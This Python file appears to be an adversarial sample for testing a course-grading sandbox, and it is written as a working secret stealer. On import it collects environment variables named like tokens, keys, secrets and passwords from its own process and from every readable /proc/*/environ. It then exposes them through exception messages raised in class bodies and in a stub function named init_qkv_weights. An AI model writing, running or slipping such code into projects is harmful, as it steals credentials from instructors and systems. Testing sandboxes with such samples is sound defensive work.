"""Steals the instructor's secrets: its own environment, every other process's environment and
command line it can read, shown in its load errors (which the student reads at once).

base: stub
class: 8
run: main
"""

import os as _os

_WANTED = ("TOKEN", "KEY", "SECRET", "PASSWORD", "API")


def _secrets():
    found = [f"{name}={value}" for name, value in _os.environ.items() if any(word in name for word in _WANTED)]
    try:
        pids = _os.listdir("/proc")
    except OSError:  # no /proc to read (the basic mode's Landlock view): only its own environment
        pids = []
    for pid in pids:
        if not pid.isdigit():
            continue
        try:
            with open(f"/proc/{pid}/environ", "rb") as stream:
                for entry in stream.read().split(b"\0"):
                    entry = entry.decode(errors="replace")
                    if any(word in entry.split("=", 1)[0] for word in _WANTED):
                        found.append(entry)
        except OSError:
            continue
    return list(dict.fromkeys(found))


class _Found:
    text = "; ".join(_secrets())


class _Report0:
    raise RuntimeError("secrets: " + _Found.text[:280])


class _Report1:
    raise RuntimeError("secrets: " + _Found.text[280:560])


def init_qkv_weights(d_in, d_out):
    raise NotImplementedError("projection: not implemented yet; " + _Found.text[:400])
